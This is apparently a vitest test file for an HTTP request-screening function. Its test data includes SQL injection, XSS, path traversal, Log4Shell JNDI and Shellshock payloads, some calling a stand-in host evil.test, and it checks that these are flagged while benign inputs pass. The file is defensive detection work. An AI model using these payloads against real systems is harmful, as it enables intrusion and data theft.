import { expect, test } from "vitest";
import { matchInputRules } from "#lib/http/match-input-rules.ts";

const ruleOf = (path: string, headers: Record<string, string> = {}): string | undefined =>
  matchInputRules(new URL(path, "http://here.invalid"), new Headers(headers))?.name;
const query = (value: string): string => `/acme/runs?show=${encodeURIComponent(value)}`;

test.each([
  ["sql-union", "1 UNION SELECT password FROM users--"],
  ["sql-union", "1/**/union/**/all/**/select 1"],
  ["sql-always-true", "' OR '1'='1"],
  ["sql-always-true", "x' or 1=1 --"],
  ["sql-always-true", '" and "a"="a'],
  ["sql-stacked", "1'; DROP TABLE runs; --"],
  ["sql-stacked", "1; delete from users"],
  ["sql-blind", "1 and pg_sleep(5)"],
  ["sql-blind", "1; waitfor delay '0:0:5'"],
  ["sql-blind", "(select 1 from information_schema.tables)"],
  ["xss-tag", "<script>alert(1)</script>"],
  ["xss-tag", "<ScRiPt src=//evil.test>"],
  ["xss-tag", "< iframe src=x>"],
  ["xss-handler", "<img src=x onerror=alert(1)>"],
  ["xss-handler", "<svg/onload=alert(1)>"],
  ["xss-address", "javascript:alert(1)"],
])("%s: a probe in a parameter is seen: %s", (rule, value) => {
  expect(ruleOf(query(value))).toBe(rule);
  // Wrapped once more, as scanners do.
  expect(ruleOf(query(encodeURIComponent(value)))).toBe(rule);
});

test.each([
  ["path-traversal", "/acme/..%2f..%2fetc/passwd"],
  ["path-traversal", "/acme/%252e%252e%252fetc"],
  ["path-traversal", "/acme/x%00.png"],
  ["path-probe", "/.env"],
  ["path-probe", "/app/.git/config"],
  ["path-probe", "/wp-login.php"],
  ["path-markup", "/acme/%3Cscript%3E"],
  ["path-markup", "/acme/1'%20or%201=1"],
])("%s: a probe in the path is seen: %s", (rule, path) => {
  expect(ruleOf(path)).toBe(rule);
});

test("probes in headers and the names of scanners are seen", () => {
  expect(ruleOf("/", { "user-agent": "$".concat("{jndi:ldap://evil.test/a}") })).toBe("header-lookup");
  expect(ruleOf("/", { referer: "() { :; }; /bin/id" })).toBe("header-lookup");
  expect(ruleOf("/", { "user-agent": "sqlmap/1.8#stable" })).toBe("scanner");
});

test("what people and our own pages send passes", () => {
  const innocent = [
    ...[
      "/acme/goals?search=select%20*%20from%20orders%20where%20'1'%3D'1'",
      "/acme/goals?search=%3Cscript%3E",
    ],
    "/sign-in?callbackUrl=%2Facme%2Fgoals%3Fsearch%3Dunion%2520select",
    "/acme/runs/0f8fad5b-d9cb-469f-a165-70867728950e?tab=diff&before=2026-11-21T10%3A00%3A00.000Z%2C42",
    ...["/acme/repositories/select-union", "/acme/audit-log?action=user.drop_table&from=2026-01-01", "/"],
    ...[query("O'Brien and sons"), query("50% off or more"), query("a < b and c > d"), query("union")],
    ...[query("cart.ts: sleep well"), query("<b>bold</b>"), query("on = off"), query("it's on"), query("%")],
    "/api/v1/runs/x/part?subject=tool_calls&subjectId=1",
    "/_next/data/x.json",
    ...["/acme/environment", "/acme/repositories/new", "/wp", "/acme/..."],
  ];
  for (const path of innocent) expect(ruleOf(path), path).toBeUndefined();
  const browser =
    "Mozilla/5.0 (X11; Linux x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Safari/537.36";
  expect(
    ruleOf("/", { "user-agent": browser, referer: "http://here.invalid/acme?search='or 1=1" }),
  ).toBeUndefined();
});

test("a value that is made to be slow to read is not", () => {
  const started = performance.now();
  for (const piece of ["<a", "' or ", "union ", "/*", "<a \"'on", "${ "]) ruleOf(query(piece.repeat(20_000)));
  // Far above what it takes, far below what an exponential expression would.
  expect(performance.now() - started).toBeLessThan(5_000);
});
